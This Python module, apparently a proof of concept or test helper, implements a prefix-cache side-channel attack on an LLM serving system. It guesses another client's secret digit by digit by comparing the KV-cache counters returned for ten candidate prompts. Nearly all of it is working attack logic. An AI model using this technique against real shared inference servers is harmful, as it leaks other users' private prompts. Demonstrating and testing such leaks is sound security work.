"""A client that reads other clients' prompts off the counters of its own requests, digit by digit.

This is how the prefix cache told secrets: of ten prompts that continue what is known with another digit each, the one whose
digit is right finds one more token of KV than the others, and the counters of its response say so.
"""

from __future__ import annotations

import random
from collections.abc import Callable

TEMPLATE = list(range(100, 140))  # what everybody's prompt begins with: a block of 32 and a quarter
NUM_DIGITS = 8
FILLER = 900
Observe = Callable[[list[int]], tuple[int, ...]]  # sends a prompt; all counters of the response


def secret_of(seed: int) -> list[int]:
    rng = random.Random(seed)
    return [rng.randrange(10) for _ in range(NUM_DIGITS)]


def victims_prompt(secret: list[int]) -> list[int]:
    """A template, the secret, and enough behind it to fill the block that holds it."""
    return [*TEMPLATE, *secret, *range(500, 540)]


def recover(observe: Observe) -> list[int]:
    """The digits of a secret behind TEMPLATE, up to the first that no observation tells."""
    known: list[int] = []
    for _ in range(NUM_DIGITS):
        observe([*TEMPLATE, *known, 99, FILLER + 99])  # from now on the prober's own probes find the same of each other
        seen = [observe([*TEMPLATE, *known, digit, FILLER + digit]) for digit in range(10)]
        odd = [digit for digit in range(10) if seen.count(seen[digit]) == 1]
        if len(odd) != 1:
            return known
        known += odd
    return known
